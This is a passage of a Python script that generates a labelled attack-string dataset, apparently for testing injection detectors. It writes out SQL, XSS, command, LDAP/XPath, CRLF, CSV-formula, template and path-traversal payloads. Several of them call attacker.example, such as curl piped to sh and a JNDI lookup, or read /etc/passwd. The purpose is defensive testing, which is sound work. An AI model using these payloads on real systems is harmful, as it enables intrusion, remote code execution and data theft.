    "booking@example.com\nCc: list@attacker.example\nSubject: Your refund",
    "Photos please%0d%0aBcc:%20a@attacker.example,b@attacker.example",
    "Tom\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/pay>Pay balance</a>",
    "H. Öztürk\nReply-To: billing@attacker.example",
    "x@example.org%0ATo:%20spam@attacker.example",
]))
L.append(("crlf", "csv-row", [
    "Ciara\"\n\"Murphy\",\"=HYPERLINK(\"\"https://attacker.example\"\",\"\"waiver\"\")\",\"M",
    "vegan\r\nghost,guest,99,XL,=cmd|' /C calc'!A0",
    "Haddad\",\"35\",\"L\",\"ok\"\n\"Admin\",\"0\",\"-\",\"paid=yes",
    "late arrival\nNico,guide,2024-08-02,salary=9999",
    "first time%0a=1+cmd|'/c calc'!A1,x,x",
]))

L.append(("ldap-xpath", "ldap", [
    "*)(uid=*))(|(uid=*",
    "Sara)(|(role=admin)",
    "guide*)(|(objectClass=*)",
    "admin)(&)",
    "*)(userPassword=*)",
    "Nico))%00",
    "x)(|(cn=*)(mail=*@example.com",
    "*)(memberOf=cn=admins,ou=groups,dc=canyon,dc=local",
    "\\2a)(uid=\\2a",
    "kofi)(!(cn=nobody)",
]))
L.append(("ldap-xpath", "xpath", [
    "' or '1'='1",
    "Gorge Noire'] | //guide/password | //x['",
    "x' or count(/*)=1 or 'a'='b",
    "') or name(/*[1])='roster' or ('",
    "1 or 1=1]/*[1]/text()|//*[",
    "' or string-length(//user[1]/pwd)>5 or '",
    "Nico' and substring(//guide[role='admin']/pin,1,1)='4' and 'x'='x",
    "']|//*|//*['",
    "doc('http://attacker.example/x')//a",
    "'] | document('file:///etc/passwd') | //a['",
]))

# Generated (at most 10%): pool join with hand-written theme prefixes, and full percent-encoding.
PREFIXES = {
    "sqli": ["Gorge Noire", "R-60-03", "B-1189", "Sara B.", "rio verde"],
    "xss": ["Loved the Cathedral drop! ", "TR: Kessel Klamm. ", "Photos: ", "Thanks Nico :) ", "Flow was 0.3 "],
    "cmdi": ["topo_v2.pdf", "roster.csv", "IMG_4412.jpg", "gear_2024.xlsx"],
    "code": ["Hello {{name}}, ", "Report: ", "Notes: ", "Waiver for "],
}
POOLS = {
    "sqli": ("union", ["' UNION SELECT pin,NULL FROM staff-- -", "' OR 'z'='z'-- ", "'; SELECT pg_sleep(6)--", "' AND 1=2 UNION SELECT @@version,2#"]),
    "xss": ("event-handler", ["<img src=q onerror=alert(document.cookie)>", "<svg/onload=fetch('//attacker.example')>", "<body onload=alert(2)>", "<video src=z onerror=alert(3)>"]),
    "cmdi": ("separator", ["; id", " | cat /etc/passwd", " && curl attacker.example|sh", "$(sleep 7)"]),
    "code": ("ssti", ["{{ lipsum.__globals__.os.popen('id').read() }}", "${jndi:ldap://attacker.example/c}", "{{ cycler.__init__.__globals__.os.system('id') }}", "${T(java.lang.Runtime).getRuntime().exec('id')}"]),
}
GEN_COUNTS = {"sqli": 5, "xss": 6, "cmdi": 6, "code": 5}
URLENC = {"sqli": (["' OR 1=1-- ", "' UNION SELECT login,pwd FROM staff--", "1 AND SLEEP(5)", "'; DROP TABLE waivers;--"], "mixed+urlencode"),
          "traversal": (["../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "../../app/.env", "../../../../proc/self/environ"], "dotdot+urlencode")}

ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]


def pct(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def main():
    benign = set()
    bp = os.path.join(HERE, "benign.jsonl")
    if os.path.exists(bp):
        with open(bp, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    bycat = {c: [] for c in ORDER}
    seen = set()
    for cat, cls, vals in L:
        for v in vals:
            assert v not in seen, v
            seen.add(v)
            bycat[cat].append((cls, v))
    nlit = sum(len(v) for v in bycat.values())
    gen = 0
    for cat in ORDER:
        if cat in POOLS:
            cls, pool = POOLS[cat]
            made = 0
            while made < GEN_COUNTS[cat]:
                v = rng.choice(PREFIXES[cat]) + rng.choice(pool)
                if v in seen:
                    continue
                seen.add(v)
                bycat[cat].append((cls, v))
                made += 1
                gen += 1
        if cat in URLENC:
            pool, cls = URLENC[cat]
            for p in pool:
                v = pct(p)
                if v in seen:
                    continue
                seen.add(v)
                bycat[cat].append((cls, v))
                gen += 1
    rows = [(c, cls, v) for c in ORDER for cls, v in bycat[c]]
    assert nlit / len(rows) >= 0.9, (nlit, len(rows))
    assert 480 <= len(rows) <= 500, len(rows)
    with open(os.path.join(HERE, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (c, cls, v) in enumerate(rows, 1):
            assert 1 <= len(v) <= 2000
            assert v not in benign, v
            obj = {"id": "haks-%05d" % i, "category": c, "class": cls, "label": "attack", "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")
    return nlit, gen, bycat


if __name__ == "__main__":
    main()
